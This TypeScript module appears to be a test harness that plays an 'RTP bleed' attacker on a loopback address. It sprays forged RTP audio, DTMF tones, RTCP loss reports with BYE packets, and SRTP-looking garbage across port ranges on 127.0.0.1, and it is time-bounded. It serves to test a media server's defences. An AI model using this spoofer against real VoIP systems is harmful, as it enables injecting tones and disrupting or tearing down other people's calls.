/**
 * An attacker on a second loopback address (127.0.0.2 by default) spraying forged RTP, RFC 4733
 * DTMF, RTCP and SRTP-looking packets at every port of one or more ranges, as an "RTP bleed"
 * scanner does. Bounded: it stops after `durationMs` or stop(), whichever comes first.
 */
import { createSocket } from 'node:dgram';
import { randomBytes } from 'node:crypto';

export interface SpoofOptions {
  ranges: Array<{ min: number; max: number }>;
  from?: string;
  intervalMs?: number;
  durationMs: number;
}

function rtp(pt: number, payload: Buffer, marker = false): Buffer {
  const h = Buffer.alloc(12);
  h[0] = 0x80;
  h[1] = (marker ? 0x80 : 0) | pt;
  randomBytes(10).copy(h, 2); // random seq, timestamp, SSRC
  return Buffer.concat([h, payload]);
}

/** RTCP SR with one report block claiming total loss, then a BYE. */
function rtcp(): Buffer {
  const sr = Buffer.alloc(52);
  sr[0] = 0x81;
  sr[1] = 200;
  sr.writeUInt16BE(12, 2);
  randomBytes(4).copy(sr, 4);
  sr.writeUInt32BE((0xff000000 | 0xffffff) >>> 0, 32); // fraction lost 255, cumulative lost max
  const bye = Buffer.from([0x81, 203, 0, 1, 0, 0, 0, 0]);
  randomBytes(4).copy(bye, 4);
  return Buffer.concat([sr, bye]);
}

export async function startSpoofer(o: SpoofOptions): Promise<{ sent: () => number; stop: () => Promise<void> }> {
  const sock = createSocket('udp4');
  await new Promise<void>((r, j) => {
    sock.once('error', j);
    sock.bind(0, o.from ?? '127.0.0.2', () => r());
  });
  sock.on('error', () => undefined);
  let sent = 0;
  let n = 0;
  const tick = (): void => {
    n++;
    for (const r of o.ranges) {
      for (let p = r.min; p <= r.max; p++) {
        let pkt: Buffer;
        if (p % 2 === 1) pkt = rtcp();
        else if (n % 3 === 0) pkt = rtp(101, Buffer.from([n % 6 < 3 ? 2 : 12, 0x8a, 0x03, 0x20]), true); // DTMF "2" / "B", end bit
        else if (n % 3 === 1) pkt = rtp(0, Buffer.alloc(160, 0x00)); // loud PCMU
        else pkt = rtp(0, randomBytes(170)); // SRTP-looking garbage with a forged tag
        sock.send(pkt, p, '127.0.0.1');
        sent++;
      }
    }
  };
  const timer = setInterval(tick, o.intervalMs ?? 10);
  const end = setTimeout(() => clearInterval(timer), o.durationMs);
  return {
    sent: () => sent,
    stop: async () => {
      clearInterval(timer);
      clearTimeout(end);
      await new Promise<void>((r) => sock.close(() => r()));
    },
  };
}
